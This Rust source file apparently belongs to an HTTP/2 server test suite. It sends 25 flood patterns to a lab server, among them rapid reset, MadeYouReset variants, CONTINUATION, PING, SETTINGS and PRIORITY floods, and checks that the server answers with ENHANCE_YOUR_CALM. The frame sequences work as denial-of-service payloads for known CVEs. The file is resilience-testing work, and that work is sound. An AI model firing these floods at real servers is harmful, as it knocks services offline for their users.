//! Frames that cost the attacker nothing and the server something, again and again.

use super::super::pattern::Pattern;
use super::*;

const CALM: &str = "GOAWAY ENHANCE_YOUR_CALM, closed";

/// Which of the two it is depends on how fast the machine is.
const TINY: &str = "ENHANCE_YOUR_CALM, or served at that rate";

const fn flood(
    name: &'static str,
    what: &'static str,
    reference: &'static str,
    run: fn(&Lab) -> io::Result<String>,
) -> Pattern {
    Pattern::new(name, what, reference, CALM, run).within(2048, 2000)
}

/// The identifiers of so many streams of a client.
fn ids(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|n| 2 * n + 1)
}

/// Opens stream after stream, each made wrong by what `spoil` sends on it.
fn spoilt(lab: &Lab, spoil: fn(u32) -> Vec<u8>) -> io::Result<String> {
    ends(lab, ids(5000).flat_map(|id| [post(id, "/echo"), spoil(id)].concat()).collect::<Vec<_>>())
}

pub(in super::super) static PATTERNS: [Pattern; 25] = [
    flood("http2-floods/rapid-reset", "requests that are reset at once", "CVE-2023-44487", |lab| {
        ends(
            lab,
            ids(10_000).flat_map(|id| [get(id, "/bytes/100000"), reset(id)].concat()).collect::<Vec<_>>(),
        )
    }),
    flood(
        "http2-floods/made-you-reset-credit",
        "requests that the server resets, because of a WINDOW_UPDATE by 0",
        "CVE-2025-8671",
        |lab| spoilt(lab, |id| window_update(id, 0)),
    ),
    flood(
        "http2-floods/made-you-reset-overflow",
        "the same by windows that overflow",
        "CVE-2025-8671",
        |lab| spoilt(lab, |id| window_update(id, 0x7fff_ffff)),
    ),
    flood(
        "http2-floods/made-you-reset-length",
        "the same by more content than Content-Length says",
        "CVE-2025-8671",
        |lab| {
            let head = [request(Method::Post, b"/echo"), field(b"content-length", b"1")].concat();
            let spoilt = |id| [frame(HEADERS, END_HEADERS, id, &head), frame(DATA, 0, id, b"xx")].concat();
            ends(lab, ids(5000).flat_map(spoilt).collect::<Vec<_>>())
        },
    ),
    flood(
        "http2-floods/made-you-reset-priority",
        "the same by a PRIORITY of four octets",
        "CVE-2025-8671",
        |lab| spoilt(lab, |id| frame(PRIORITY, 0, id, &[0; 4])),
    ),
    flood(
        "http2-floods/made-you-reset-self",
        "the same by a stream that depends on itself",
        "CVE-2025-8671",
        |lab| spoilt(lab, |id| frame(PRIORITY, 0, id, &[&id.to_be_bytes()[..], &[16]].concat())),
    ),
    flood(
        "http2-floods/made-you-reset-ended",
        "the same by content behind the end of the request",
        "CVE-2025-8671",
        |lab| spoilt(lab, |id| [frame(DATA, END_STREAM, id, b"x"), frame(DATA, 0, id, b"y")].concat()),
    ),
    flood(
        "http2-floods/made-you-reset-trailers",
        "the same by trailers that may not be",
        "CVE-2025-8671",
        |lab| spoilt(lab, |id| frame(HEADERS, END_STREAM | END_HEADERS, id, &field(b"content-length", b"0"))),
    ),
    flood("http2-floods/malformed", "requests that are none, each to be reset", "CVE-2025-8671", |lab| {
        let malformed = |id| frame(HEADERS, END_STREAM | END_HEADERS, id, &[0x82]);
        ends(lab, ids(5000).flat_map(malformed).collect::<Vec<_>>())
    }),
    flood(
        "http2-floods/refused",
        "more streams than there may be, each to be refused",
        "RFC 9113 5.1.2",
        |lab| ends(lab, ids(5000).flat_map(|id| post(id, "/echo")).collect::<Vec<_>>()),
    ),
    flood("http2-floods/continuation", "a field block that does not end", "CVE-2024-27316", |lab| {
        let start = frame(HEADERS, END_STREAM, 1, &request(Method::Get, b"/hello"));
        let more = frame(CONTINUATION, 0, 1, &field(b"x", &[b'y'; 1000]));
        ends(lab, [start, more.repeat(10_000)].concat())
    }),
    flood(
        "http2-floods/continuation-empty",
        "a field block that does not end, in frames without content",
        "CVE-2024-27316",
        |lab| {
            let start = frame(HEADERS, END_STREAM, 1, &request(Method::Get, b"/hello"));
            ends(lab, [start, frame(CONTINUATION, 0, 1, &[]).repeat(100_000)].concat())
        },
    ),
    flood("http2-floods/ping", "100,000 PINGs, each to be answered", "CVE-2019-9512", |lab| {
        ends(lab, frame(PING, 0, 0, &[7; 8]).repeat(100_000))
    }),
    flood("http2-floods/ping-ack", "100,000 answers to PINGs that were not sent", "RFC 9113 6.7", |lab| {
        ends(lab, frame(PING, ACK, 0, &[7; 8]).repeat(100_000))
    }),
    flood("http2-floods/settings", "100,000 SETTINGS, each to be acknowledged", "CVE-2019-9515", |lab| {
        ends(lab, settings(&[]).repeat(100_000))
    }),
    flood("http2-floods/settings-entries", "SETTINGS of 2,700 entries each", "CVE-2019-9515", |lab| {
        ends(lab, settings(&[(INITIAL_WINDOW_SIZE, 65_535); 2700]).repeat(100))
    }),
    flood(
        "http2-floods/settings-table",
        "a table size that changes with each SETTINGS",
        "CVE-2019-9515, RFC 7541 4.2",
        |lab| ends(lab, [settings(&[(1, 0)]), settings(&[(1, 65_536)])].concat().repeat(50_000)),
    ),
    flood("http2-floods/priority", "100,000 PRIORITYs", "CVE-2019-9513", |lab| {
        ends(lab, ids(100_000).flat_map(|id| frame(PRIORITY, 0, id, &[0, 0, 0, 0, 16])).collect::<Vec<_>>())
    }),
    flood("http2-floods/priority-update", "100,000 PRIORITY_UPDATEs", "RFC 9218 7.1", |lab| {
        let update = |id: u32| frame(PRIORITY_UPDATE, 0, 0, &[&id.to_be_bytes()[..], b"u=1"].concat());
        ends(lab, ids(100_000).flat_map(update).collect::<Vec<_>>())
    }),
    flood(
        "http2-floods/empty-data",
        "DATA without content on a stream that does not end",
        "CVE-2019-9518",
        |lab| ends(lab, [post(1, "/echo"), frame(DATA, 0, 1, &[]).repeat(100_000)].concat()),
    ),
    Pattern::new(
        "http2-floods/tiny-data",
        "200,000 DATA of an octet each: beyond 100,000, only 50,000 a second are put up with",
        "CVE-2019-9511",
        TINY,
        |lab| {
            let mut wire = open_with(lab, &[(INITIAL_WINDOW_SIZE, 0x7fff_ffff)])?;
            wire.send(&[window_update(0, 0x7fff_0000), post(1, "/echo")].concat());
            wire.send(&frame(DATA, 0, 1, b"x").repeat(200_000));
            wire.send(&frame(DATA, END_STREAM, 1, b""));
            let is_over = |(kind, flags, ..): (u8, u8, u32, &[u8])| {
                kind == GOAWAY || kind == DATA && flags & END_STREAM != 0
            };
            wire.hear_until(|heard| Frames(heard).any(is_over));
            let echoed: usize =
                Frames(wire.heard()).filter(|frame| frame.0 == DATA).map(|frame| frame.3.len()).sum();
            if echoed < 200_000 {
                wire.finish();
            }
            Ok(match &*last_words(&wire) {
                CALM => TINY.to_owned(),
                "no GOAWAY, open" if echoed == 200_000 => TINY.to_owned(),
                other => format!("{echoed} octets, {other}"),
            })
        },
    )
    .within(2048, 5000),
    flood("http2-floods/padding", "DATA of padding alone", "CVE-2019-9518", |lab| {
        let padding = frame(DATA, PADDED, 1, &[&[10][..], &[0; 10]].concat());
        ends(lab, [post(1, "/echo"), padding.repeat(20_000)].concat())
    }),
    flood("http2-floods/unknown-frames", "frames of a type that nobody knows", "RFC 9113 4.1", |lab| {
        ends(lab, frame(0x42, 0, 0, &[]).repeat(100_000))
    }),
    Pattern::new(
        "http2-floods/goaway",
        "100,000 GOAWAYs: after the first there is nothing to wait for",
        "RFC 9113 6.8",
        "no GOAWAY, closed",
        |lab| ends(lab, frame(GOAWAY, 0, 0, &[0x7f, 0xff, 0xff, 0xff, 0, 0, 0, 0]).repeat(100_000)),
    ),
    flood(
        "http2-floods/settled-window",
        "an initial window that changes with 100 streams open",
        "CVE-2019-9511",
        |lab| {
            let streams: Vec<u8> = ids(100).flat_map(|id| get(id, "/bytes/1000000")).collect();
            let shake =
                [settings(&[(INITIAL_WINDOW_SIZE, 0)]), settings(&[(INITIAL_WINDOW_SIZE, 1)])].concat();
            ends(lab, [streams, shake.repeat(50_000)].concat())
        },
    )
    .within(16 * 1024, 5000),
];
